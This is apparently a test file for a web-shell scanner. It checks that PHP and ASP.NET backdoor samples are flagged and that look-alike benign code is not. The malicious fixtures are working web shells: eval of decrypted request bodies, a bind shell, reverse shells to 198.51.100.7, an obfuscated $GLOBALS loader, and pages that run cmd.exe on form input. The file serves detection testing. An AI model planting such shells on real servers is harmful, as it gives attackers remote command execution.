import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 25's held-out set J, looked at after its one scan (J's figures in
// docs/scan.md are that scan's), each technique written again by us: J's files stay outside the
// project.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// a table of 64 characters and the names picked out of it ($GLOBALS['tb'][i] . ...)
const TABLE = 'abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.';
const pick = (table: string, name: string) => [...name].map((c) => `$GLOBALS['${table}'][${TABLE.indexOf(c)}]`).join(' . ');

const MALICIOUS: [string, string, string, string][] = [
  ['the request body decrypted and run from an invokable object', 'mamori:decrypted-body-eval', '/www/up.php', `<?php
final class Runner { public function __invoke($code) { eval($code . ''); } }
session_start();
if (isset($_GET['hello'])) { print $_SESSION['key'] = substr(sha1(mt_rand()), 0, 16); exit; }
$parts = explode('|', openssl_decrypt(file_get_contents('php://input'), 'AES-128-ECB', $_SESSION['key']));
call_user_func(new Runner(), $parts[1]);`],
  ['a POST field decrypted and run from a function parameter', 'mamori:decrypted-body-eval', '/www/m.php', `<?php
function go($p) { @eval($p); }
$k = md5('s3cret');
go(openssl_decrypt(base64_decode($_POST['d']), 'aes-256-cbc', $k, OPENSSL_RAW_DATA, substr($k, 0, 16)));`],
  ['a bind shell: what the accepted socket reads, run', 'mamori:socket-command', '/www/b.php', `<?php
set_time_limit(0);
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, '0.0.0.0', 4711);
socket_listen($srv);
$peer = socket_accept($srv);
while (true) {
  $line = socket_read($peer, 2048);
  if ($line === false || trim($line) === 'quit') break;
  socket_write($peer, (string) shell_exec(trim($line)));
}`],
  ['a reverse shell reading commands line by line', 'mamori:socket-command', '/www/r.php', `<?php
$c = @fsockopen('198.51.100.7', 8443);
while ($c && !feof($c)) { $cmd = fgets($c, 4096); fwrite($c, (string) @passthru($cmd)); }`],
  ['a shell handed the socket\'s descriptor', 'mamori_php_reverse_shell', '/www/fd.php', `<?php $s = fsockopen("198.51.100.7", 9001); shell_exec("exec bash <&3 >&3 2>&3"); ?>`],
  ['function names picked out of a character table in $GLOBALS', 'mamori:globals-char-table', '/www/cache.php', `<?php
\${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}['tb'] = "${TABLE}";
$GLOBALS[${pick('tb', 'aa')}] = ${pick('tb', 'base64_decode')};
$GLOBALS[${pick('tb', 'bb')}] = ${pick('tb', 'strrev')};
$GLOBALS[${pick('tb', 'cc')}] = $_COOKIE;
$GLOBALS[${pick('tb', 'dd')}] = ${pick('tb', 'create_function')};
if (isset($GLOBALS['cc']['x'])) { $f = $GLOBALS[${pick('tb', 'dd')}]('', $GLOBALS[${pick('tb', 'aa')}]($GLOBALS['cc']['x'])); $f(); }`],
  ['eval of a decoder of the file\'s own (numbers shifted, then chr and XOR)', 'mamori:eval-own-decoder', '/www/k.php', `<?php
class Boot {
  public $data = [${[...'print(1);'].map((c) => (c.charCodeAt(0) ^ 7) << 8).join(',')}];
  function __construct() { if (sha1($_GET['k'] ?? '') === 'f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0') { @eval(unpackIt($this->data)); } }
}
function unpackIt($list) { $s = ''; foreach ($list as $n) { $s .= chr(($n >> 8) ^ 7); } return $s; }
new Boot();`],
  ['an ASP.NET page loading an assembly from the decrypted request body stream', 'mamori_aspx_assembly_load', '/www/u.aspx', `<%@ Import Namespace="System.Reflection" %>
<%
  byte[] key = Encoding.Default.GetBytes("0123456789abcdef");
  var reader = new StreamReader(Request.InputStream);
  var body = Convert.FromBase64String(reader.ReadToEnd());
  Assembly.Load(new RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length)).CreateInstance("P").Equals(this);
%>`],
  ['an ASP.NET page running cmd.exe with a TextBox\'s text as its arguments', 'mamori_aspx_process_control_input', '/www/run.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<form runat="server"><asp:TextBox id="Arg" runat="server" /><asp:Button runat="server" OnClick="Go" Text="go" /></form>
<script runat="server">
void Go(object o, EventArgs e) {
  var info = new ProcessStartInfo("cmd.exe", "/c " + Arg.Text);
  info.RedirectStandardOutput = true; info.UseShellExecute = false;
  Response.Write(Process.Start(info).StandardOutput.ReadToEnd());
}
</script>`],
];

const SUSPICIOUS: [string, string, string, string][] = [
  ['a database client page: the server and the query from the form', 'mamori:db-client-input', '/www/dbq.php', `<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $h = $_POST['h']; $u = $_POST['u']; $p = $_POST['p']; $d = $_POST['d']; $q = $_POST['q'];
  $db = new mysqli($h, $u, $p, $d);
  $res = $db->query($q);
  while ($row = $res->fetch_assoc()) print_r($row);
  exit;
}
?><form method="post"><textarea name="q"></textarea></form>`],
];

const BENIGN: [string, string, string][] = [
  ['a payment callback decrypting the request body, no eval', '/www/notify.php', `<?php
$raw = file_get_contents('php://input');
$data = json_decode(openssl_decrypt(base64_decode($raw), 'aes-256-gcm', KEY, OPENSSL_RAW_DATA, IV, TAG), true);
update_order($data['order'], $data['status']);`],
  ['a socket client writing a fixed command and reading its answer', '/www/status.php', `<?php
$s = fsockopen('127.0.0.1', 11211);
fwrite($s, "stats\\r\\n");
$line = fgets($s);
echo htmlspecialchars($line);
exec('uptime', $out);
echo implode("\\n", $out);`],
  ['a mail daemon check: a socket read, and a fixed command', '/www/mq.php', `<?php
$sock = stream_socket_client('unix:///run/mq.sock');
$reply = fread($sock, 512);
if (strpos($reply, 'READY') === 0) { system('/usr/local/bin/mq-flush'); }`],
  ['a template engine evaluating what its compiler returns', '/www/tpl.php', `<?php
function compile_tpl($t) { return '?>' . preg_replace('/\\{\\{(\\w+)\\}\\}/', '<?= htmlspecialchars($$1) ?>', $t); }
function render($t, $vars) { extract($vars); eval(compile_tpl($t)); }
render(file_get_contents('page.tpl'), ['title' => 'Hello']);`],
  ['a string helper building text with chr() (no eval of it)', '/www/str.php', `<?php
function rot($s, $n) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr((ord($s[$i]) + $n) % 256); } return $o; }
echo rot($_GET['t'] ?? '', 1);`],
  ['a site\'s database page with a fixed server, the query from its own code', '/www/list.php', `<?php
$db = new mysqli(DB_HOST, DB_USER, DB_PASS, DB_NAME);
$q = 'SELECT id, name FROM items WHERE cat = ' . (int) $_GET['cat'];
$res = $db->query($q);
while ($r = $res->fetch_assoc()) echo htmlspecialchars($r['name']);`],
  ['an installer connecting to the server the form names, then running its own schema', '/www/install.php', `<?php
$db = new mysqli($_POST['host'], $_POST['user'], $_POST['pass'], $_POST['name']);
$schema = file_get_contents(__DIR__ . '/schema.sql');
$db->multi_query($schema);`],
  ['configuration read through $GLOBALS by names', '/www/conf.php', `<?php
$GLOBALS['conf'] = ['db' => 'x', 'cache' => 'y'];
function conf($k) { return $GLOBALS['conf'][$k] ?? null; }
$GLOBALS['handlers']['save'] = 'save_item';
$GLOBALS['handlers']['save']($item);`],
  ['an ASP.NET page running a fixed tool on an uploaded file\'s saved name', '/www/conv.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Go(object o, EventArgs e) {
  var info = new ProcessStartInfo("C:\\\\tools\\\\convert.exe", "in.png out.pdf");
  Process.Start(info).WaitForExit();
  Status.Text = "done";
}
</script>`],
];

describe('scan: held-out set J (session 25), its misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, rule, path, src] of SUSPICIOUS) {
    it(`suspicious at least: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(!r.findings.some((f) => /decrypted-body-eval|socket-command|globals-char-table|eval-own-decoder|db-client-input/.test(f.rule)), JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 9);
    assert.equal(SUSPICIOUS.length, 1);
    assert.equal(BENIGN.length, 9);
  });
});
